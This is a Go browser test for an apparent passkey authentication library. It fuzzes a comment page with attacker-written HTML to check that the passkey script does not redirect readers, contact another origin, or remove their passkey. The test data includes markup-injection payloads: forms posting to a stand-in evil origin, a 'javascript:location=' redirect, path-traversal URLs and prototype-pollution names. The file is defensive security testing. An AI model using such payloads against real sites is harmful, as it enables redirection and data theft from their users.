package main

import (
	"encoding/base64"
	"fmt"
	"html"
	"math/rand/v2"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chromedp/cdproto/webauthn"

	"github.com/latchkeyhq/latchkey/internal/client"
	"github.com/latchkeyhq/latchkey/internal/race"
)

// hostilePage is a page of the site with the script for passkeys, that shows HTML of
// an attacker. It has no policy, which would keep some of it from working.
type hostilePage struct {
	http.Handler
	markup atomic.Value // text
	away   atomic.Int64 // requests at the attacker's server
	evil   string       // its origin
}

func newHostilePage(t *testing.T) *hostilePage {
	t.Helper()
	h := &hostilePage{}
	h.markup.Store("")
	h.evil = serve(t, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		h.away.Add(1)
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	mux := http.NewServeMux()
	mux.Handle("/", newClientTest(t))
	mux.HandleFunc("GET /comments", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, `<!doctype html><title>Comments</title><link rel="icon" href="data:,"><body>%s<script type="module" src="/auth/client/passkeys.js"></script>`, h.markup.Load())
	})
	mux.HandleFunc("/upload", func(w http.ResponseWriter, _ *http.Request) { // a file of the attacker's
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusBadRequest)
		fmt.Fprintf(w, `{"error":"x","url":"%s/landing","options":{"rpId":"localhost","challenge":"AAAA"}}`, h.evil)
	})
	h.Handler = mux
	return h
}

// reacted are the attributes that scripts of ours look at, as their source has them.
func reacted() []string {
	source, _ := client.Find(client.Passkeys)
	return slices.Compact(slices.Sorted(slices.Values(regexp.MustCompile(`data-latchkey-[a-z-]+`).FindAllString(string(source.Body), -1))))
}

// hostileValues are what an attacker would write into an attribute: URLs, paths out of
// the routes, names of built-in members, and news about a passkey of the reader.
func (h *hostilePage) hostileValues(reader *webauthn.Credential) []string {
	id, user := base64.RawURLEncoding.EncodeToString(reader.CredentialID), base64.RawURLEncoding.EncodeToString(reader.UserHandle)
	return []string{
		"passkey", "../../upload?", "../../upload#", "/upload", h.evil, "//" + strings.TrimPrefix(h.evil, "http://"), "javascript:location='" + h.evil + "'",
		"__proto__", "constructor", "", "passkey?action=signals&",
		fmt.Sprintf(`{"rpId":"localhost","credentialId":"%s"}`, id),
		fmt.Sprintf(`{"rpId":"localhost","userId":"%s","allAcceptedCredentialIds":[],"name":"x","displayName":"x"}`, user),
	}
}

// anyMarkup returns a comment of an attacker: forms and other elements with our
// attributes, each with any value, and fields that hide members of their form.
func anyMarkup(random *rand.Rand, attributes, values []string) string {
	pick := func(list []string) string { return list[random.IntN(len(list))] }
	attribute := func(name string) string { return fmt.Sprintf(` %s="%s"`, name, html.EscapeString(pick(values))) }
	var b strings.Builder
	for range 3 {
		tag := pick([]string{"form", "form", "form", "div", "p"})
		b.WriteString("<" + tag)
		for range 1 + random.IntN(3) {
			b.WriteString(attribute(pick(append([]string{"action", "target", "method", "name"}, attributes...))))
		}
		b.WriteString(`><input autocomplete="username webauthn" name="email">`)
		for range random.IntN(3) {
			fmt.Fprintf(&b, `<input name="%s"%s>`, pick([]string{"action", "data", "callbackUrl", "elements", "dataset", "submit", "method", "querySelector"}), attribute("value"))
		}
		fmt.Fprintf(&b, `<p%s></p><button%s%s>x</button></%s>`, attribute(pick(attributes)), attribute("value"), attribute("name"), tag)
	}
	return b.String()
}

// TestHostileMarkup: R-524. Whatever attributes an attacker writes into a page of
// the site, the scripts lead the reader to no other site, send nothing there, and
// have no passkey removed. Before, it found both: a URL in an uploaded file was
// followed, and news in an attribute were passed on.
func TestHostileMarkup(t *testing.T) {
	attributes := reacted()
	if len(attributes) < 4 {
		t.Fatalf("the script reacts to %q", attributes)
	}
	seed, steps := race.Steps(t, 8)
	random := rand.New(rand.NewPCG(seed, 0))
	h := newHostilePage(t)
	k := newKeyholder(openTab(t, startChromium(t), serve(t, h)))
	k.before(recordSignals)
	k.signUp("ada@example.com")
	own := k.passkeys()[0]
	all := h.known(own)
	for range steps {
		all = append(all, anyMarkup(random, attributes, h.hostileValues(own)))
	}
	for visit, markup := range all {
		h.markup.Store(markup)
		k.reads(visit)
		if away := h.away.Load(); away > 0 || !k.holds(own) {
			t.Fatalf("R-524: %d requests elsewhere, the passkey is left: %t, after\n%s", away, k.holds(own), markup)
		}
	}
	k.forgive()
}

// known are comments that did harm once.
func (h *hostilePage) known(reader *webauthn.Credential) []string {
	values := h.hostileValues(reader)
	return []string{
		`<form data-latchkey-passkey="../../upload?"><button>x</button></form>`,
		`<form data-latchkey-passkey-add="../../upload#"><button>x</button></form>`,
		`<form data-latchkey-passkey="passkey" action="` + h.evil + `/taken"><button>x</button></form>`,
		`<form data-latchkey-passkey="passkey" method="get" target="_blank" action="//` + strings.TrimPrefix(h.evil, "http://") + `"><button>x</button></form>`,
		`<form data-latchkey-passkey-factor="passkey" action="` + h.evil + `/taken?a=b"><button>x</button></form>`,
		`<form data-latchkey-passkey-factor="passkey" data-latchkey-passkey-for="../../upload" action="//"><button>x</button></form>`,
		`<p data-latchkey-passkey-unknown></p>`,
		`<p data-latchkey-passkeys="` + html.EscapeString(values[len(values)-2]) + `"></p>`,
		`<p data-latchkey-passkeys="` + html.EscapeString(values[len(values)-1]) + `"></p>`,
	}
}

// reads opens the page, presses a button of each form that the script is for, and
// lets the script work. A form may send itself at any time, even to the same page, which
// then has the name of the visit already.
func (k *keyholder) reads(visit int) {
	k.t.Helper()
	k.openAmid("/comments")
	k.becomes(fmt.Sprintf(`document.readyState === "complete" && (location.pathname + location.search !== "/comments" || window.settled ||
  name === "%[1]d" && !window.started || (name = "%[1]d", window.started ??= (async () => {
  for (const form of document.querySelectorAll("form[data-latchkey-passkey], form[data-latchkey-passkey-add], form[data-latchkey-passkey-factor]")) Element.prototype.querySelector.call(form, "button").click()
  for (let i = 0; i < 20; i++) await (await fetch("/auth/session")).text()
  window.settled = true
})(), false))`, visit))
}

// holds reports whether the authenticator has a passkey.
func (k *keyholder) holds(c *webauthn.Credential) bool {
	k.t.Helper()
	return slices.ContainsFunc(k.passkeys(), func(one *webauthn.Credential) bool { return slices.Equal(one.CredentialID, c.CredentialID) })
}

// forgive drops what the console has said: statuses of what an attacker asked for.
func (k *keyholder) forgive() {
	k.lock.Lock()
	defer k.lock.Unlock()
	k.complaints = nil
}
